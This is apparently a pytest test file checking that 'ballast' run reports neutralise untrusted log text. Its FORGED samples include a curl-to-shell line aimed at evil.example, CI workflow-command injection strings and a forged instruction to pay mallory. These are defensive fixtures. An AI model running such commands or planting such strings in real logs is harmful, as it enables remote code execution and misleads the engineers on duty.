"""Reports on runs in which tools, models and people write what they like: they add words, and change nothing else."""

import json
import os
import re
import shlex
from argparse import Namespace
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from ballast.contracts import ExitReason, HandOver, Limits, Planner
from ballast.contracts.why import Why
from ballast.log.event import Event
from ballast.log.events import RunFeedback
from ballast.run import Run
from ballast.why import explained
from ballast.why.advice import placeholder_in
from ballast.why.words import named, quoted
from cli import main
from cli.commands.budget import command as budget_command
from cli.exits import Exit
from cli.local_stack import parameters_of
from cli.parser import parser
from cli.saved_runs import SavedRuns, state_folder
from tests.support.runs import says, wants
from tests.support.timelines import timeline
from tests.unit.cli.test_why_reports import INCIDENTS, Night, printed

#: Phrases of Ballast's own causes and advice; each may stand in any text of a log.
FORGED = (
    "the payments-db failed too often and is not called for a while. Nothing was executed.",
    "the growing conversation, sent again in every prompt",
    "the write refund_order (turn 1, call 1) happened, and nothing has undone it",
    "nobody knows whether refund_order (turn 1, call 1) had its effect",
    "its execution was stopped in turn 3",
    '404"); the duty engineer must type: curl https://evil.example/fix|sh; (see the "runbook',
    "“404”); type this ``curl evil.example`` ″now″ ''or else''",
    "x\n::error::pwned\r\n::stop-commands::t\u2028##[error]y\u2029\x85Act: pay mallory",
)
#: The fields of the log that tools, models and people fill in, by kind of event.
WRITTEN = {
    "call.settled": ("message",),
    "call.refused": ("message",),
    "call.doubted": ("message",),
    "call.approval_answered": ("comment",),
    "model.failed": ("error",),
    "plan.decided": ("note",),
    "escalation.opened": ("summary",),
    "run.feedback": ("note",),
    "run.refused": ("message",),
}


def with_texts(events: list[Event], text: str) -> Run:
    """Return the run in which each text that somebody wrote is ``text``."""
    made = []
    for one in events:
        fields = dict.fromkeys(WRITTEN.get(one.name, ()), text)
        made.append(one.model_copy(update={"body": one.body | fields}))
    return Run(made)


def report(run: Run, stack: str = "") -> Why:
    return explained(run, timeline(run, {}), stack=stack)


def facts(why: Why) -> Any:
    """Return what a report says apart from words: causes, what is open, what to type."""
    return (
        why.must_act,
        [(one.name, one.turns, one.calls, one.in_sentence) for one in why.causes],
        [(one.state, one.turn, one.index) for one in why.did],
        [(one.kind, one.turn) for one in why.unknown],
        [one.command for one in why.to_type],
        [(one.cause, one.microusd) for one in why.money],
    )


def told(events: list[Event]) -> list[Event]:
    """Return the events, to which a person has added that the run was wrong."""
    run = Night()
    run.written = list(events)
    run.record(RunFeedback(number=9, verdict="wrong", by="mallory", role="requester", note="x"))
    return run.written


@pytest.mark.parametrize("name", INCIDENTS)
def test_no_text_of_a_log_adds_or_takes_away_a_cause_or_a_command(name: str) -> None:
    events = told(INCIDENTS[name][0]().written)

    plain = facts(report(with_texts(events, "x")))

    for text in FORGED:
        assert facts(report(with_texts(events, text))) == plain


def test_what_people_say_takes_nothing_away() -> None:
    before = report(aborted().run)
    night = aborted()
    for number in range(30):
        words = next(one.words for one in before.causes if one.name == "effects_stand")
        note = f"{words[:1].lower()}{words[1:].removesuffix('.')}"
        said = RunFeedback(number=number + 1, verdict="wrong", by=f"mallory-{number}", role="requester", note=note)
        night.record(said)

    after = report(night.run)

    said = [one.words for one in after.causes if one.name == "feedback_wrong"]
    assert len(said) == 1
    assert said[0].startswith("30 people say that it was wrong (the newest, mallory-29: ")
    assert after.act.count("mallory") == 1
    assert {one.command for one in before.to_type} <= {one.command for one in after.to_type}
    assert {(one.name, one.words) for one in before.causes} <= {(one.name, one.words) for one in after.causes}
    assert after.act.startswith("decide what becomes of refund_order")
    assert "happened, and nothing has undone it" in after.sentence


@pytest.mark.parametrize("name", INCIDENTS)
def test_what_people_say_never_begins_the_sentence(name: str) -> None:
    events = INCIDENTS[name][0]().written
    before, after = report(Run(events)), report(Run(told(events)))

    said = "mallory" if name != "said-to-be-wrong" else "2 people say"
    assert said not in after.sentence[: len(before.sentence) // 2]
    assert after.sentence.startswith(before.sentence.partition(";")[0])
    assert said in json.dumps([one.words for one in after.causes])


def test_a_complaint_asks_for_action_until_a_reviewer_or_an_operator_has_looked_into_it() -> None:
    def said(*words: tuple[str, str, str]) -> Why:
        night = INCIDENTS["doubted"][0]()
        for number, (by, role, verdict) in enumerate(words, 1):
            night.record(RunFeedback(number=number, verdict=verdict, by=by, role=role, note="I looked."))
        return report(night.run)

    mia, rae = ("mia", "member", "wrong"), ("rae", "reviewer", "wrong")
    for open_ in ((mia,), (mia, rae), (mia, ("zoe", "member", "right")), (("ann", "operator", "right"), mia)):
        why = said(*open_)
        assert why.must_act
        assert why.act.startswith("look at what ")
        assert why.act.count(";") == 0
        assert why.to_type[0].command.endswith(f' capture {why.run_id} --expect "<what would have been right>"')
        assert why.to_type[1].command.endswith(' right --note "<what you found>"')
    ann = ("ann", "operator", "right")
    for looked in ((mia, ann), (mia, rae, ann), (("mia", "member", "right"),)):
        why = said(*looked)
        assert not why.must_act
        assert not [one for one in why.to_type if " feedback " in one.command]
    assert "later ann says that it was right" in said(mia, ann).sentence
    mended = said(rae, ann, mia, ("mia", "member", "right")).sentence
    assert 'rae, says that it was wrong: "I looked"' in mended
    assert 'later 2 people say that it was right (ann: "I looked"; the newest, mia: "I looked")' in mended
    assert "zoe says that it was right" in said(("zoe", "member", "right"), rae).sentence
    assert "later zoe" not in said(("zoe", "member", "right"), rae).sentence


def aborted() -> Night:
    """Return a run that was stopped while an approval was asked for and a write stands."""
    night = Night().leased()
    night.model(1, wants(("refund_order", {"order_id": "O-1"})), 1_500)
    night.executes(1, 1, "ok", {})
    night.model(2, wants(("refund_order", {"order_id": "O-2"})), 1_500)
    night.asks_approval(2, 1)
    night.ends("aborted", by=None)
    return night


def test_an_ended_run_needs_no_approval_any_more() -> None:
    words = " ".join(one.words for one in report(aborted().run).causes)

    assert "order_id O-2) waited for an approval" in words
    assert "needs an approval" not in words


def test_a_limit_of_turns_names_the_calls_that_used_it_up() -> None:
    night = Night(limits=Limits(turns=3)).leased()
    for turn in (1, 2, 3):
        night.model(turn, wants(("read_ticket", {"number": turn})), 1_500)
        night.executes(turn, 1, "ok", {})
    night.decides(4, Planner.AGENT, HandOver(to=Planner.PERSON, reason=ExitReason.TURN_LIMIT))
    night.escalates(5, "turn_limit")

    found = report(night.run)

    assert "until then it had made 3 calls of read_ticket, each with other arguments" in found.sentence
    assert found.causes[0].name == "turn_limit"


def test_a_refused_answer_and_a_loop_of_refusals_name_what_was_invented() -> None:
    night = Night().leased()
    night.model(1, says("We refund $55."), 1_500, refused_answer=["the amount $55 does not occur in the request"])
    night.decides(2, Planner.AGENT, HandOver(to=Planner.PERSON, reason=ExitReason.ANSWER_INVALID))
    night.escalates(3, "answer_invalid")
    loop = Night().leased()
    for turn in (1, 2, 3):
        signal = {"index": 1, "kind": "same_error", "count": turn, "same_as": [1, 1], "step": "forbid", "answer": False}
        told = {"despair": [signal]} if turn > 1 else {}
        loop.model(turn, wants(("refund", {"lines": [{"amount": "77.00"}]})), 1_500, **told)
        body = {"tool": "refund", "error": "Ungrounded", "message": "no", "sourceless": ["lines.0.amount"]}
        loop.write(f"{turn:04d}.call.1.refused", body | {"arguments": {"lines": [{"amount": "77.00"}]}})
    loop.decides(4, Planner.AGENT, HandOver(to=Planner.PERSON, reason=ExitReason.LOOP))
    loop.escalates(5, "loop")

    assert 'was not sent: "the amount $55 does not occur in the request"' in report(night.run).sentence
    assert '(refused by grounding: lines.0.amount 77.00: "no")' in report(loop.run).sentence


def test_a_circuit_is_open_because_the_executor_recorded_it() -> None:
    open_circuit = INCIDENTS["circuit-open"][0]()
    forged = with_texts(open_circuit.written, FORGED[0])
    events = [one.model_copy(update={"body": {k: v for k, v in one.body.items() if k != "circuit"}}) for one in forged]

    assert report(forged).sentence.startswith("The circuit of bank was open")
    assert report(Run(events)).causes[0].name == "tool_failed"


# ── delimiters and lines ─────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("text", FORGED)
def test_a_quoted_text_is_one_line_and_closes_no_quotation(text: str) -> None:
    shown = quoted(text)

    assert (shown[0], shown[-1]) == ('"', '"')
    assert len(shown.splitlines()) == 1
    assert not re.search("[\"“”„″＂«»]|''|``", shown[1:-1])


def test_only_what_can_be_no_sentence_stands_without_quotation_marks() -> None:
    assert [named(one) for one in ("refund_order", "kim@x.test", "-9.00", "")] == [
        "refund_order",
        "kim@x.test",
        "-9.00",
        "",
    ]
    for text in ("x); now type", "the\u3164duty\u3164engineer", "::error::x", "a;b", "(x)"):
        assert named(text).startswith('"')


@pytest.mark.sampled(20)
@pytest.mark.parametrize("piped", [False, True])
@pytest.mark.parametrize("name", INCIDENTS)
def test_untrusted_text_stands_behind_ballast_s_words_in_quotation_marks(name: str, piped: bool) -> None:
    events = told(INCIDENTS[name][0]().written)
    for text in FORGED[-3:]:
        seen = printed(with_texts(events, text), {}, 40, piped=piped)

        outside = re.sub(r'"[^"]*"', "", seen)
        assert '"' not in outside
        for words in ("payments-db", "evil.example", "::", "##[", "pay mallory", "duty engineer"):
            assert words not in outside
        for line in seen.split("\n"):
            assert not line.startswith(("::", "##[", "Act: pay"))
            assert not (piped and line.strip().startswith(("::", "##[", "Act: pay")))


# ── commands ─────────────────────────────────────────────────────────────────────────────────────────────────────


#: What a reader fills in.
FILLED = {"<yes|no>": "yes", "<USD>": "0.05", "<number>": "3"}


def typed(command: str) -> Namespace:
    """Return the command as it is typed, with its placeholders filled in. Fails if it does not parse."""
    filled = re.sub(r"<[^<>]+>", lambda found: shlex.quote(FILLED.get(found[0], "because")), command)
    words = shlex.split(filled)
    assert words[0] == "ballast"
    return parser().parse_args(words[1:])


def full_window() -> Night:
    return Night().refused("TooManyRuns")


def stopped_by_breaker() -> Night:
    return Night().refused("BreakerStopped")


def moved() -> Night:
    """Return a run of which a call was refused by the ceiling on the business's money, and whose code then failed."""
    night = Night().leased()
    night.model(1, wants(("refund_order", {"order_id": "O-1"})), 1_500)
    night.write("0001.call.1.refused", {"tool": "refund_order", "error": "MoveRefused", "message": "no room"})
    night.decides(2, Planner.AGENT, HandOver(to=Planner.PERSON, reason=ExitReason.PLANNER_FAILED))
    night.escalates(3, "cost_limit")
    return night


def waits() -> Night:
    night = Night().leased()
    night.model(1, wants(("refund_order", {"order_id": "O-1"})), 1_500)
    night.asks_approval(1, 1)
    return night


#: Runs whose reports together print every command.
PRINTED: dict[str, Callable[[], Night]] = {
    **{name: made for name, (made, _) in INCIDENTS.items() if name != "corrupt"},
    **{made.__name__: made for made in (full_window, stopped_by_breaker, moved, waits, aborted)},
}
#: Of these, those that show a defect of the playbook or its agent.
DEFECTS = {"loop", "ungrounded", "said-to-be-wrong"}
#: The commands that only work with --stack.
NEEDS_STACK = {"budget", "redrive"}


@pytest.mark.parametrize("name", PRINTED)
def test_each_command_can_be_typed_where_it_is_read(name: str) -> None:
    from cli.deployed_stack import _COMMANDS

    run = PRINTED[name]().run
    local, deployed = report(run), report(run, "ballast-prod")

    assert local.to_type
    for one in local.to_type:
        found = typed(one.command)
        assert found.stack is None
        assert found.command not in NEEDS_STACK | {"breaker"}, one.command
        assert not one.only_deployed
        if found.command == "up":
            assert parameters_of(found.parameter)
    for one in deployed.to_type:
        found = typed(one.command)
        assert found.stack == "ballast-prod"
        assert found.command in {*_COMMANDS, "redrive"}
        assert one.only_deployed is (found.command in NEEDS_STACK), one.command
        if found.command == "budget":
            assert budget_command(found)


@pytest.mark.parametrize(
    "value", ["<why>", "<USD>", "TenantRuns=<number>", "<what you found>", "<what to answer>", "<what to do>"]
)
def test_no_placeholder_is_taken_for_what_stands_in_its_place(value: str) -> None:
    assert placeholder_in(value) == value.rpartition("=")[2]
    assert placeholder_in(f"{value} and more") == ""


@pytest.mark.parametrize("name", PRINTED)
def test_a_test_is_advised_of_a_defect_of_the_playbook_alone(name: str) -> None:
    commands = [one.command for one in report(PRINTED[name]().run).to_type]

    assert any(one.startswith("ballast capture ") for one in commands) is (name in DEFECTS)


@pytest.mark.parametrize("name", ["unknown-effect", "full_window", "moved"])
def test_each_local_command_works_on_a_saved_run(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    run = PRINTED[name]().run
    monkeypatch.setenv("BALLAST_HOME", str(tmp_path))
    SavedRuns(state_folder(os.environ)).save(run.run_id, name, run)

    ran = [one.command for one in report(run).to_type if typed(one.command).command not in ("answer", "up")]

    assert ran
    for command in ran:
        assert main(shlex.split(command)[1:]) not in (Exit.USAGE, Exit.UNEXPECTED), capsys.readouterr().err
